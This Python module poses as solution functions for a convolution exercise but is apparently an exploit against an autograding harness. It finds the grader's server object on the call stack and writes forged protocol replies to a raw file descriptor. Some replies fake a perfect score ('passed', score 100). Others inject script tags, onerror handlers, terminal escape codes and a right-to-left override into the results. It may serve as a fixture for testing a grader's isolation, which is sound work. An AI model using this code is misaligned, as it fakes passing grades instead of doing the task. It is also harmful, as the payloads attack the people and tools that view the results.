import sys


def server():
    """The worker's own server, found on the stack."""
    frame = sys._getframe()
    while frame:
        owner = frame.f_locals.get("self")
        if type(owner).__name__ == "Server":
            return owner
        frame = frame.f_back


def send(header, body=b"", lengths=None):
    """Bytes of the attacker's choice, framed like a reply."""
    import os
    import struct

    data = struct.pack(">II", *(lengths or (len(header), len(body)))) + header + body
    while data:
        data = data[os.write(4, data):]

import json


def reply(**words):
    pairs = [["id", server()._current], *([key, value] for key, value in words.items())]
    send(json.dumps({"m": {"d": pairs}, "b": []}).encode())


def output_size(*args, **kwargs):
    reply(value=1, changed=[], passed=True, points=4, outcome="passed", score=100)


def conv_at(*args, **kwargs):
    reply(missing="<script>pwned()</script> \x1b]0;pwned\x07")


def conv2d_single(*args, **kwargs):
    reply(blocked=["<img src=x onerror=pwned()>"] * 1000)


def zero_pad(*args, **kwargs):
    reply(unsupported="\u202epwned")


def conv2d(*args, **kwargs):
    reply(raised="passed", value=0, changed=[])
